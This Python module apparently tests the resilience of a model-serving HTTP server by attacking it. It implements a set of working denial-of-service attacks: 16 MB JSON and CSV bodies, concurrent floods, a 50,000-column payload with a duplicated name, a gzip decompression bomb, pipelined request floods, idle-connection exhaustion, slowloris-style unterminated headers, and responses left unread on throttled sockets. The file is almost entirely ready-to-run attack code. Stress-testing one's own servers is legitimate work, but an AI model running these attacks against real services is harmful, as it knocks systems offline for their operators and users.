"""Requests that try to exhaust a model server or to silence it."""

from __future__ import annotations

import gzip
import json
import socket
import time
import urllib.request
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from functools import partial

MEGABYTE = 2**20
BODY = 16 * MEGABYTE - 64
PATIENCE = 120  # seconds until a client gives up
FULL, QUICK = 3, 1  # how often each large body is sent


@dataclass(frozen=True)
class Target:
    """A server under attack."""

    host: str
    port: int
    pid: int
    name: str

    def connect(self, timeout: float = PATIENCE) -> socket.socket:
        """Open a connection."""
        return socket.create_connection((self.host, self.port), timeout=timeout)

    def ask(self, method: str, path: str, body: bytes = b"", headers: str = "Content-Type: application/json\r\n") -> int:
        """Send a request, and return the status of its answer; 0 if there was none."""
        head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n{headers}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        with suppress(OSError), self.connect() as client:
            with suppress(OSError):  # it may answer before it has read all
                client.sendall(head.encode() + body)
            return int(client.recv(65536)[9:12] or 0)
        return 0


Attack = Callable[[Target, bool], str]


def bodies(unit: bytes, target: Target, is_quick: bool, *, wrap: tuple[bytes, bytes] = (b'{"instances":[', b"]}")) -> str:
    """Send a body of 16 MB of one thing."""
    head, tail = wrap
    body = head + unit * ((BODY - len(head) - len(tail)) // len(unit)) + unit.rstrip(b",") + tail
    return _statuses([target.ask("POST", "/invocations", body) for _ in range(QUICK if is_quick else FULL)])


def numbers_at_once(target: Target, is_quick: bool) -> str:
    """Send the largest bodies that are understood, eight at once."""
    with ThreadPoolExecutor(8) as threads:
        return _statuses(list(threads.map(lambda _: int(bodies(b"0.5,", target, True)), range(8 if is_quick else 24))))


def table(unit: bytes, target: Target, is_quick: bool, *, head: bytes = b"", tail: bytes = b"") -> str:
    """Send 16 MB of CSV."""
    body = head + unit * ((BODY - len(head) - len(tail)) // len(unit)) + tail
    return _statuses([target.ask("POST", "/invocations", body, "Content-Type: text/csv\r\n") for _ in range(QUICK if is_quick else FULL)])


def quotes(target: Target, is_quick: bool) -> str:
    """Send the model's header, and one field of 16 MB that holds quotes alone."""
    with urllib.request.urlopen(f"http://{target.host}:{target.port}/v2/models/{target.name}") as response:
        names = [item["name"] for item in json.load(response)["inputs"]]
    return table(b'""', target, is_quick, head=",".join(names).encode() + b'\n"', tail=b'"\n')


def names_twice(target: Target, _: bool) -> str:
    """Send 50,000 names of columns, the last of them twice."""
    names = [f"c{number}" for number in range(49_999)]
    body = {"dataframe_split": {"columns": [*names, names[-1]], "data": [[1] * 50_000]}}
    return _statuses([target.ask("POST", "/invocations", json.dumps(body).encode())])


def bomb(target: Target, is_quick: bool) -> str:
    """Send gzip that would become a gigabyte."""
    body = gzip.compress(b" " * ((64 if is_quick else 1024) * MEGABYTE), 9)
    kind = "Content-Type: application/json\r\nContent-Encoding: gzip\r\n"
    return _statuses([target.ask("POST", "/invocations", body, kind) for _ in range(QUICK if is_quick else FULL)])


def pipelines(target: Target, is_quick: bool) -> str:
    """Send 14,000 requests on each of many connections, and read no answer."""
    many = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 10_000
    with ExitStack() as stack:
        clients = [stack.enter_context(target.connect(2)) for _ in range(20 if is_quick else 200)]
        for client in clients:
            with suppress(OSError):
                client.sendall(many)
        time.sleep(1 if is_quick else 10)
    return f"{len(clients)} connections"


def idle(target: Target, is_quick: bool) -> str:
    """Hold all connections that there may be, and more, without a word."""
    with ExitStack() as stack:
        opened = 0
        for _ in range(600 if is_quick else 4300):
            with suppress(OSError):
                stack.enter_context(target.connect(5))
                opened += 1
        time.sleep(1)
    return f"{opened} connections"


def half_heads(target: Target, is_quick: bool) -> str:
    """Send large heads without an end."""
    part = b"GET / HTTP/1.1\r\nHost: a\r\nx: " + b"a" * 30_000
    with ExitStack() as stack:
        for _ in range(100 if is_quick else 2000):
            client = stack.enter_context(target.connect(5))
            with suppress(OSError):
                client.sendall(part)
        time.sleep(1)
    return "held"


def unread(target: Target, is_quick: bool) -> str:
    """Ask for large pages on many connections, and read none."""
    many = b"GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n" * 50
    with ExitStack() as stack:
        for _ in range(20 if is_quick else 200):
            client = socket.socket()
            stack.enter_context(client)
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.settimeout(5)
            with suppress(OSError):
                client.connect((target.host, target.port))
                client.sendall(many)
        time.sleep(1 if is_quick else 35)  # longer than the server waits for its reader
    return "held"


ATTACKS: dict[str, Attack] = {
    "16 MB of `[[[]]],`": partial(bodies, b"[[[]]],"),
    '16 MB of `{"":0},`': partial(bodies, b'{"":0},'),
    "16 MB of `[],`": partial(bodies, b"[],"),
    "16 MB of `{},`": partial(bodies, b"{},"),
    "16 MB of `[0],`": partial(bodies, b"[0],"),
    '16 MB of `"a",`': partial(bodies, b'"a",'),
    '16 MB of `"",` behind NaN': partial(bodies, b'"",', wrap=(b'{"instances":[NaN,', b"]}")),
    "16 MB of `NaN,`": partial(bodies, b"NaN,"),
    "16 MB of `0.5,`, 8 at once": numbers_at_once,
    "16 MB of empty lines, CSV": partial(table, b"\n"),
    "16 MB of commas, CSV": partial(table, b","),
    "16 MB of quotes in one field, CSV": quotes,
    "50,000 names, one twice": names_twice,
    "gzip of a gigabyte": bomb,
    "10,000 pipelined requests, 200 connections": pipelines,
    "4,300 idle connections": idle,
    "2,000 heads of 30 kB without an end": half_heads,
    "answers that nobody reads, 200 connections": unread,
}


def _statuses(found: list[int]) -> str:
    return ", ".join(str(status) for status in sorted(set(found)))
